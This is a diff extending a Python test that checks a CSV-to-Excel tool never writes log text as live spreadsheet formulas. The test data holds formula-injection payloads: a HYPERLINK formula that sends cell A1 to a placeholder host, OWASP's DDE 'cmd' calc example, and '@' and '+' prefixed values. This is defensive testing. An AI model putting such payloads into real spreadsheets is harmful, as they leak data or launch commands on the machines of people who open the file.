@@ -204,10 +204,19 @@ def test_text_from_a_log_is_never_written_as_a_formula(tmp_path):
     # OWASP, "CSV Injection": a cell that begins with = (or +, -, @) must not become a live formula
     demo = pd.read_csv("sample_sights/demo_sights.csv", dtype=str, keep_default_na=False)
     demo["observer"] = '=HYPERLINK("http://example.invalid/?leak="&A1,"click")'
-    path = tmp_path / "injected.csv"
+    demo["fix_group"] = "@SUM(1+1)"
+    demo["=cmd|' /C calc'!A0"] = "+1+1"  # an extra column named like a formula (OWASP's own example)
+    demo["remark\x07"] = "-2-2"  # a control character in a header: the format cannot hold it
+    path = tmp_path / "=injected.csv"  # the file name is written too (About sheet)
     demo.to_csv(path, index=False)
     book = openpyxl.load_workbook(write_workbook(process_log(path), tmp_path / "v.xlsx", plots=False))
+    seen = set()
     for name in book.sheetnames:
         for cells in book[name].iter_rows():
             for cell in cells:
                 assert cell.data_type != "f", (name, cell.coordinate, cell.value)
+                if isinstance(cell.value, str):
+                    seen.add(cell.value)
+    assert demo.observer[0] in seen and "=cmd|' /C calc'!A0" in seen and "+1+1" in seen
+    assert "remark\ufffd" in seen  # the control character shown as U+FFFD, the rest kept
+    assert any(v.startswith("@SUM(1+1)") for v in seen) and any("=injected.csv" in v for v in seen)
